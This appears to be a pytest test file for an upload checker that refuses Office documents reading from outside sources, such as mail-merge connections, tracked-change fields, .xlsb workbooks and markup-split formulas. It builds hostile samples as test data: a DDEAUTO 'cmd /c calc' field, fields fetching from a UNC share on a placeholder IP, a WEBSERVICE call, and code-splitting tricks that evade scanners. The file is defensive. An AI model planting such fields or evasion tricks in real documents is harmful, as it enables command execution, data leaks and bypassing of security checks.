"""Sources an office document reads from elsewhere that the evidence checks did not see (ADR 24,
amended): a Word mail merge's data source, a field kept in tracked changes (rejecting them
restores it), a binary workbook's parts (.xlsb), and a formula or field code written across
markup that Office reads otherwise (mc:AlternateContent, an ignorable element). Each refusal
has a harmless look-alike beside it that is taken."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests import evidence_files as files

_inspect, _refusal = files.inspected, files.refusal
W = files.WORD
UNC = "\\\\203.0.113.9\\share"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R = f'xmlns:r="{OFFICE_RELS}"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def _rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part of (id, type, target) relationships, all inside the package."""
    listed = "".join(
        f'<Relationship Id="{rid}" Type="{OFFICE_RELS}/{kind}" Target="{target}"/>'
        for rid, kind, target in relationships
    )
    return f'<Relationships xmlns="{PACKAGE_RELS}">{listed}</Relationships>'.encode()


# --- 1. A Word mail merge's data source --------------------------------------------------------


def _merging(mail_merge: str, *extra: tuple[str, bytes], namespace: str = W) -> bytes:
    """A Word document whose settings.xml holds `mail_merge` (a w:mailMerge's children)."""
    settings = (
        f"<w:settings {namespace} {R}><w:mailMerge>{mail_merge}</w:mailMerge></w:settings>"
    ).encode()
    return files.docx(("word/settings.xml", settings), *extra)


_LETTERS = '<w:mainDocumentType w:val="formLetters"/>'
# As Word writes an OLE DB source: a server's address in the connection string, and the query.
_SQL = (
    '<w:connectString w:val="Provider=SQLOLEDB.1;Integrated Security=SSPI;'
    'Data Source=203.0.113.9;Initial Catalog=members"/>'
)
_QUERY = '<w:query w:val="SELECT * FROM `Members`"/>'
# A text file's query names the file.
_TEXT_FILE_QUERY = '<w:query w:val="SELECT * FROM \\\\203.0.113.9\\share\\members.txt"/>'


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (
            _merging(_LETTERS + '<w:linkToQuery/><w:dataType w:val="native"/>' + _SQL + _QUERY),
            "connectString",
        ),
        # A text file read by its query alone: no connection string, no relationship.
        (
            _merging(_LETTERS + '<w:dataType w:val="textFile"/>' + _TEXT_FILE_QUERY),
            "query",
        ),
        # The source a part of the package (an .odc holding the connection): its relationship
        # is no external one.
        (
            _merging(
                _LETTERS + '<w:dataSource r:id="rId1"/>',
                ("word/_rels/settings.xml.rels", _rels(("rId1", "mailMergeSource", "m.odc"))),
                ("word/m.odc", b"<html>Provider=MSDASQL;DSN=members</html>"),
            ),
            "dataSource",
        ),
        (_merging(_LETTERS + '<w:headerSource r:id="rId2"/>'), "headerSource"),
        # Office's recipient list (odso): a UDL connection string, and its source.
        (
            _merging(
                _LETTERS
                + f'<w:odso><w:udl w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source={UNC}'
                + '\\m.xlsx"/><w:table w:val="Sheet1$"/></w:odso>'
            ),
            "udl",
        ),
        (_merging(_LETTERS + '<w:odso><w:src r:id="rId3"/></w:odso>'), "src"),
        # Strict OOXML, under another prefix.
        (
            files.docx(
                (
                    "word/settings.xml",
                    b'<s:settings xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main">'
                    b'<s:mailMerge><s:connectString s:val="DSN=members"/></s:mailMerge>'
                    b"</s:settings>",
                )
            ),
            "connectString",
        ),
    ],
    ids=[
        "ole-db-query",
        "text-file-query",
        "internal-source",
        "header",
        "udl",
        "odso-src",
        "strict",
    ],
)
def test_a_mail_merge_document_with_a_data_source_is_refused(
    tmp_path: Path, data: bytes, what: str
) -> None:
    reason = _refusal(tmp_path, data).reason
    assert f"a mail merge's data source ({what} in word/settings.xml" in reason
    assert "send the merged document" in reason


def test_a_mail_merge_data_source_in_an_embedded_document_is_refused(tmp_path: Path) -> None:
    inner = _merging(_LETTERS + '<w:connectString w:val="DSN=members"/>')
    reason = _refusal(tmp_path, files.docx(("word/embeddings/letter.docx", inner))).reason
    assert "a mail merge's data source" in reason
    assert "(in the embedded word/embeddings/letter.docx)" in reason


def test_a_mail_merge_document_without_a_data_source_is_taken(tmp_path: Path) -> None:
    # Word's letter not yet given its recipients: a type, a blank connection, nothing to read;
    # MERGEFIELDs in the body; the words in text; a custom part of a business's own whose
    # elements happen to share the names.
    merge = (
        _LETTERS
        + '<w:dataType w:val="textFile"/><w:connectString w:val=""/><w:query w:val=" "/>'
        + '<w:activeRecord w:val="-1"/><w:viewMergedData/>'
    )
    body = (
        files.field(" MERGEFIELD FirstName ", result="«FirstName»")
        + "<w:r><w:t>connectString, query, dataSource: the members list</w:t></w:r>"
    )
    document = f"<w:document {W}><w:body><w:p>{body}</w:p></w:body></w:document>".encode()
    custom = (
        b'<crm xmlns="urn:example:crm"><connectString>DSN=x</connectString>'
        b"<query>SELECT 1</query><dataSource>x</dataSource><udl>x</udl></crm>"
    )
    settings = f"<w:settings {W}><w:mailMerge>{merge}</w:mailMerge></w:settings>".encode()
    data = files.zip_of(
        [
            ("[Content_Types].xml", files.content_types(("/word/document.xml", files.DOCX_MAIN))),
            ("_rels/.rels", files.RELS),
            ("word/document.xml", document),
            ("word/settings.xml", settings),
            ("customXml/item1.xml", custom),
        ]
    )
    assert _inspect(tmp_path, data) == "docx"


# --- 2. Fields kept in tracked changes ---------------------------------------------------------


def _char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _code(text: str, element: str = "instrText") -> str:
    return f'<w:r><w:{element} xml:space="preserve">{text}</w:{element}></w:r>'


def _deleted(inner: str) -> str:
    return f'<w:del w:id="1" w:author="Reviewer" w:date="2026-11-02T10:00:00Z">{inner}</w:del>'


def _inserted(inner: str) -> str:
    return f'<w:ins w:id="2" w:author="Reviewer" w:date="2026-11-02T10:00:00Z">{inner}</w:ins>'


def _deleted_field(code: str, result: str = "1") -> str:
    """A whole field deleted with changes tracked, as Word writes it (its code delInstrText)."""
    return _deleted(
        _char("begin")
        + _code(code, "delInstrText")
        + _char("separate")
        + f"<w:r><w:delText>{result}</w:delText></w:r>"
        + _char("end")
    )


@pytest.mark.parametrize(
    ("body", "says"),
    [
        # Rejecting the deletion (Reject All) restores the field.
        (
            _deleted_field(f'INCLUDEPICTURE "{UNC}\\x.png" \\d'),
            "an INCLUDEPICTURE field in word/document.xml once its tracked changes are rejected",
        ),
        (_deleted_field(' DDEAUTO "cmd" "/c calc" '), "DDE link"),
        # Deleted code text outside a w:del (Word reads it as deleted all the same).
        (
            _char("begin")
            + _code(f'INCLUDETEXT "{UNC}\\x.docx"', "delInstrText")
            + _char("separate")
            + _char("end"),
            "an INCLUDETEXT field in word/document.xml once its tracked changes are rejected",
        ),
        # X inserted into the code: read with it, INCLUDEXPICTURE; rejected, INCLUDEPICTURE.
        (
            _char("begin")
            + _code("INCLUDE")
            + _inserted(_code("X"))
            + _code(f'PICTURE "{UNC}\\x.png"')
            + _char("separate")
            + _char("end"),
            "an INCLUDEPICTURE field in word/document.xml once its tracked changes are rejected",
        ),
        # A field's end and a new begin, deleted: accepted, IN and CLUDEPICTURE are one code.
        (
            _char("begin")
            + _code("IN")
            + _deleted(_char("separate") + _char("end") + _char("begin"))
            + _code(f'CLUDEPICTURE "{UNC}\\x.png"')
            + _char("separate")
            + _char("end"),
            "an INCLUDEPICTURE field in word/document.xml once its tracked changes are accepted",
        ),
        # The same, the marks inserted: rejected, they are gone.
        (
            _char("begin")
            + _code("LI")
            + _inserted(_char("separate") + _char("end") + _char("begin"))
            + _code(f'NK Excel.Sheet.12 "{UNC}\\b.xlsx" S!R1C1 \\a')
            + _char("separate")
            + _char("end"),
            "a LINK field in word/document.xml once its tracked changes are rejected",
        ),
        # Moved away: rejecting the move restores the text at its source.
        (
            _char("begin")
            + _code("INCLUDE")
            + f'<w:moveTo w:id="3" w:author="R" w:date="2026-11-02T10:00:00Z">{_code("X")}'
            + "</w:moveTo>"
            + _code(f'PICTURE "{UNC}\\x.png"')
            + _char("separate")
            + _char("end"),
            "an INCLUDEPICTURE field in word/document.xml once its tracked changes are rejected",
        ),
    ],
    ids=[
        "deleted-includepicture",
        "deleted-ddeauto",
        "deleted-code-outside-del",
        "inserted-into-the-code",
        "deleted-marks",
        "inserted-marks",
        "moved-into-the-code",
    ],
)
def test_a_fetching_field_in_tracked_changes_is_refused(
    tmp_path: Path, body: str, says: str
) -> None:
    assert says in _refusal(tmp_path, files.word(body)).reason


def test_fields_in_tracked_changes_that_fetch_nothing_are_taken(tmp_path: Path) -> None:
    body = (
        # A page number deleted by a reviewer, a date inserted.
        _deleted_field(" PAGE ", "3")
        + _inserted(_char("begin") + _code(' DATE \\@ "d MMMM yyyy" ') + _char("separate"))
        + _inserted("<w:r><w:t>2 November 2026</w:t></w:r>" + _char("end"))
        # A cross-reference whose bookmark was changed, tracked.
        + _char("begin")
        + _code("REF ")
        + _deleted(_code("Old_total", "delInstrText"))
        + _inserted(_code("New_total"))
        + _code(" \\h ")
        + _char("separate")
        + _deleted("<w:r><w:delText>£1,200</w:delText></w:r>")
        + _inserted("<w:r><w:t>£1,250</w:t></w:r>")
        + _char("end")
        # A contents field updated with changes tracked: its page references, old and new.
        + _char("begin")
        + _code(' TOC \\o "1-3" \\h ')
        + _char("separate")
        + _deleted(
            _char("begin")
            + _code(" PAGEREF _Toc1 \\h ", "delInstrText")
            + _char("separate")
            + "<w:r><w:delText>2</w:delText></w:r>"
            + _char("end")
        )
        + _inserted(
            _char("begin")
            + _code(" PAGEREF _Toc1 \\h ")
            + _char("separate")
            + "<w:r><w:t>3</w:t></w:r>"
            + _char("end")
        )
        + _char("end")
        # Deleted words naming a refused field.
        + _deleted(f'<w:r><w:delText>INCLUDEPICTURE "{UNC}\\x.png"</w:delText></w:r>')
    )
    assert _inspect(tmp_path, files.word(body)) == "docx"


# --- 3. Binary workbooks (.xlsb) ---------------------------------------------------------------

BINARY_MAIN = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
SHEET = f"{files.OOXML}.spreadsheetml"


def _xlsb() -> bytes:
    """A binary workbook as Excel writes one: its parts BIFF12 records (here, a few bytes)."""
    return files.zip_of(
        [
            (
                "[Content_Types].xml",
                files.content_types(
                    ("/xl/workbook.bin", BINARY_MAIN),
                    ("/xl/worksheets/sheet1.bin", "application/vnd.ms-excel.worksheet"),
                ),
            ),
            (
                "_rels/.rels",
                f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
                f'Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.bin"/>'
                "</Relationships>".encode(),
            ),
            ("xl/workbook.bin", b"\x83\x01\x00\x80\x01\x00"),
            ("xl/worksheets/sheet1.bin", b"\x81\x01\x00\x82\x01\x00"),
        ]
    )


def _xlsx_with_binary_sheet() -> bytes:
    """A workbook whose sheet is declared a binary part (whose formulas we cannot read)."""
    return files.xlsx(
        ("xl/worksheets/sheet1.bin", b"\x81\x01\x00\x82\x01\x00"),
        types=files.content_types(
            ("/xl/workbook.xml", files.XLSX_MAIN),
            ("/xl/worksheets/sheet1.bin", "application/vnd.ms-excel.worksheet"),
        ),
    )


@pytest.mark.parametrize(
    ("data", "name", "where", "embedded"),
    [
        (
            files.docx(
                ("word/embeddings/Microsoft_Excel_Binary_Worksheet.xlsb", _xlsb()),
                types=files.content_types(
                    ("/word/document.xml", files.DOCX_MAIN),
                    (
                        "/word/embeddings/Microsoft_Excel_Binary_Worksheet.xlsb",
                        "application/vnd.ms-excel.sheet.binary.macroEnabled.12",
                    ),
                ),
            ),
            "upload.docx",
            "/xl/workbook.bin: Excel's .xlsb format",
            "(in the embedded word/embeddings/Microsoft_Excel_Binary_Worksheet.xlsb)",
        ),
        # Under another name, not declared as a workbook: found by its own declarations.
        (
            files.docx(("word/embeddings/oleObject1.bin", _xlsb())),
            "upload.docx",
            "/xl/workbook.bin: Excel's .xlsb format",
            "(in the embedded word/embeddings/oleObject1.bin)",
        ),
        (_xlsb(), "upload.xlsb", "/xl/workbook.bin: Excel's .xlsb format", ""),
        (_xlsx_with_binary_sheet(), "upload.xlsx", "/xl/worksheets/sheet1.bin: Excel's", ""),
    ],
    ids=["embedded-xlsb", "embedded-under-another-name", "xlsb", "xlsx-with-a-binary-sheet"],
)
def test_a_binary_workbook_is_refused(
    tmp_path: Path, data: bytes, name: str, where: str, embedded: str
) -> None:
    reason = _refusal(tmp_path, data, name).reason
    assert f"a binary workbook or part of one ({where}" in reason
    assert "send it saved as .xlsx" in reason
    assert embedded in reason


def test_workbooks_with_ordinary_binary_parts_and_legacy_embeddings_are_taken(
    tmp_path: Path,
) -> None:
    # Printer settings (binary in every workbook printed), a form control's properties (XML
    # under Excel's own type), an embedded legacy workbook (an OLE object, checked as one).
    workbook = files.xlsx(
        ("xl/printerSettings/printerSettings1.bin", b"\x00" * 64),
        ("xl/ctrlProps/ctrlProp1.xml", b'<formControlPr objectType="CheckBox"/>'),
        types=files.content_types(
            ("/xl/workbook.xml", files.XLSX_MAIN),
            ("/xl/printerSettings/printerSettings1.bin", f"{SHEET}.printerSettings"),
            ("/xl/ctrlProps/ctrlProp1.xml", "application/vnd.ms-excel.controlproperties+xml"),
        ),
    )
    assert _inspect(tmp_path, workbook, "upload.xlsx") == "xlsx"
    document = files.docx(
        ("word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", files.xls()),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", files.xlsx()),
        types=files.content_types(
            ("/word/document.xml", files.DOCX_MAIN),
            ("/word/embeddings/Microsoft_Excel_97-2003_Worksheet.xls", "application/vnd.ms-excel"),
            ("/word/embeddings/Microsoft_Excel_Worksheet.xlsx", f"{SHEET}.sheet"),
        ),
    )
    assert _inspect(tmp_path, document) == "docx"


# --- 4. Formulas and field codes written across markup Office reads otherwise -----------------

SPREADSHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
X14 = 'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
XM = 'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'


def _sheet(cells: str, ignorable: str = "", ext: str = "") -> bytes:
    sheet = (
        f'<worksheet {SPREADSHEET} {MC} {X14} xmlns:i="urn:example:ignored" {ignorable}>'
        f'<sheetData><row r="1">{cells}</row></sheetData><extLst><ext>{ext}</ext></extLst>'
        "</worksheet>"
    )
    return files.xlsx(("xl/worksheets/sheet1.xml", sheet.encode()))


def _alternate(choice: str, fallback: str) -> str:
    """Excel reads the Choice (it knows x14), an older reader the Fallback; never both."""
    return (
        f'<mc:AlternateContent><mc:Choice Requires="x14">{choice}</mc:Choice>'
        f"<mc:Fallback>{fallback}</mc:Fallback></mc:AlternateContent>"
    )


_WEB = "(&quot;http://203.0.113.9/rates&quot;)"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        # WEB, SERVICE in the branch Excel reads, X in the one it skips: read together,
        # WEBSERVICEX; as Excel reads it, WEBSERVICE.
        (_sheet(f'<c r="A1"><f>WEB{_alternate("SERVICE", "X")}{_WEB}</f></c>'), "upload.xlsx"),
        # A reference to another workbook, a bracket in an ignorable element: Excel drops it.
        (
            _sheet('<c r="A1"><f>[1<i:x>]</i:x>]Sheet1!A1</f></c>', 'mc:Ignorable="i"'),
            "upload.xlsx",
        ),
        (
            files.xlsx(
                (
                    "xl/names.xml",
                    f"<workbook {SPREADSHEET} {MC}><definedNames><definedName name='r'>"
                    f"WEB{_alternate('SERVICE', 'X')}{_WEB}</definedName></definedNames>"
                    "</workbook>".encode(),
                )
            ),
            "upload.xlsx",
        ),
        (
            files.docx(
                (
                    "word/charts/chart1.xml",
                    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'
                    f" {MC}><c:chart><c:ser><c:val><c:numRef><c:f>"
                    f"'{UNC}\\[b.xlsx]S'{_alternate('', 'x')}!$A$1</c:f>"
                    "</c:numRef></c:val></c:ser></c:chart></c:chartSpace>".encode(),
                )
            ),
            "upload.docx",
        ),
        # Three pieces under x14's formula, not one: together, a string; the middle one read
        # alone, a call.
        (
            _sheet(
                "<c r='A1'/>",
                ext=f"<x14:dataValidations {XM}><x14:dataValidation><x14:formula1>"
                "<xm:f>&quot;</xm:f><xm:f>WEBSERVICE(1)</xm:f><xm:f>&quot;</xm:f>"
                "</x14:formula1></x14:dataValidation></x14:dataValidations>",
            ),
            "upload.xlsx",
        ),
    ],
    ids=["alternate-in-a-cell", "ignorable-in-a-cell", "defined-name", "chart", "two-pieces"],
)
def test_a_formula_written_across_markup_is_refused(tmp_path: Path, data: bytes, name: str) -> None:
    reason = _refusal(tmp_path, data, name).reason
    assert "a formula written across markup Office may read otherwise" in reason


def test_a_field_code_holding_markup_is_refused(tmp_path: Path) -> None:
    # An element inside the code itself: an ignorable one is dropped with its text, leaving
    # INCLUDEPICTURE.
    body = (
        _char("begin")
        + '<w:r><w:instrText xml:space="preserve">INCLUDE<i:x xmlns:i="urn:example:ignored">Z'
        + f'</i:x>PICTURE "{UNC}\\x.png"</w:instrText></w:r>'
        + _char("separate")
        + _char("end")
    )
    assert "Word may read otherwise" in _refusal(tmp_path, files.word(body)).reason


def test_whole_formulas_in_alternate_content_and_excels_own_nesting_are_taken(
    tmp_path: Path,
) -> None:
    cells = (
        # A cell whose formula Excel writes twice: each branch's whole.
        '<c r="A1">'
        + _alternate("<f>_xlfn.XLOOKUP(B1,C1:C9,D1:D9)</f>", "<f>VLOOKUP(B1,C1:D9,2,0)</f>")
        + "<v>3</v></c><c r='A2'><f> SUM(A1:A1) </f></c>"
    )
    # A list validation on another sheet, and a rule, as Excel 2010 writes them.
    ext = (
        f"<x14:dataValidations {XM}><x14:dataValidation type='list'><x14:formula1>\n  "
        "<xm:f>Lists!$A$1:$A$5</xm:f>\n</x14:formula1><xm:sqref>B2</xm:sqref>"
        "</x14:dataValidation></x14:dataValidations>"
        f"<x14:conditionalFormattings {XM}><x14:conditionalFormatting><x14:cfRule "
        "type='expression'><xm:f>Lists!$B$1&gt;0</xm:f></x14:cfRule>"
        "</x14:conditionalFormatting></x14:conditionalFormattings>"
    )
    assert _inspect(tmp_path, _sheet(cells, ext=ext), "upload.xlsx") == "xlsx"
